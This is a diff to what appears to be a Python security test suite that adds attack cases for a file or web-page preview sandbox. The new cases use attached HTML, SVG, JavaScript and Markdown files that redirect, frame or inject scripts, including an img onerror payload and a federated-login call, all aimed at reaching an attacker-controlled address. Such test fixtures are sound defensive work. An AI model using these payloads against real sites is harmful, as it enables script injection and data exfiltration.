@@ -30,12 +30,14 @@ class Attack:
     files: Mapping[str, str]
     serves: Mapping[str, str] = field(default_factory=dict)
     """Answers of other hosts, by URL, that the attacker has put there or that a library is."""
+    attached: tuple[str, ...] = ()
+    """The files that came with the request, and stay as they are."""
 
     @property
     def opened(self) -> str:
         """The file that a visitor opens: a drawing by itself, else the start page."""
         alone = (path for path in self.files if path.endswith((".svg", ".xml")))
-        return next(alone, "index.html")
+        return "index.html" if "index.html" in self.files else next(alone)
 
 
 def _base64(text: str) -> str:
@@ -44,14 +46,16 @@ def _base64(text: str) -> str:
 
 def _site(
     markup: str = "", code: str = "", *, head: str = "", serves: Mapping[str, str] | None = None,
-    **files: str,
+    attached: tuple[str, ...] = (), **files: str,
 ) -> Attack:  # fmt: skip
     """A page with markup, code and a head of the attacker's; `x_txt` is the file x.txt."""
     page = PAGE.replace("</main>", f"{markup}</main>").replace(
         "let shown", f"{code}\n    let shown"
     )
     others = {name.replace("_", "."): text for name, text in files.items()}
-    return Attack({"index.html": page.replace("</head>", f"{head}</head>"), **others}, serves or {})
+    return Attack(
+        {"index.html": page.replace("</head>", f"{head}</head>"), **others}, serves or {}, attached
+    )
 
 
 def _peers(server: str) -> str:
@@ -164,5 +168,21 @@ def attacks(evil: str, udp: str) -> dict[str, Attack]:
         "a window on a text": _site(
             code=f'const w = open("./x.txt"); setTimeout(() => {{ w.document.body.innerHTML = "{picture}"; }}, 700);', x_txt="x"
         ),
+        # attachments
+        "an attached page that is gone to": _site(code='location = "./report.html";', attached=("report.html",), report_html=f"<script>{tells}</script>"),
+        "an attached page that is refreshed to": _site(
+            head='<meta http-equiv="refresh" content="0; url=report.html">', attached=("report.html",), report_html=f"<script>{tells}</script>"
+        ),
+        "an attached page in a frame": _site('<iframe src="report.html"></iframe>', attached=("report.html",), report_html=picture),
+        "an attached page in a sandbox": _site(
+            '<iframe src="report.html" sandbox="allow-scripts"></iframe>', attached=("report.html",), report_html=f"<script>{tells}</script>"
+        ),
+        "an attached drawing in a frame": _site('<iframe src="a.svg"></iframe>', attached=("a.svg",), a_svg=f"<svg {SVG}><script>{tells}</script></svg>"),
+        "an attached script": _site('<script src="app.js"></script>', attached=("app.js",), app_js=f'location = "{place}";'),
+        "an attached text with markup": _site(
+            code='fetch("./x.md").then((r) => r.text()).then((t) => { document.body.innerHTML = t; });', attached=("x.md",),
+            x_md=f"<img src=x alt='' onerror='location=`{place}`'>",
+        ),
+        # further ways out
         "a login that another provides": _site(code=f'navigator.credentials.get({{ identity: {{ providers: [{{ configURL: "{place}config.json", clientId: "secret" }}] }} }});'),
     }  # fmt: skip
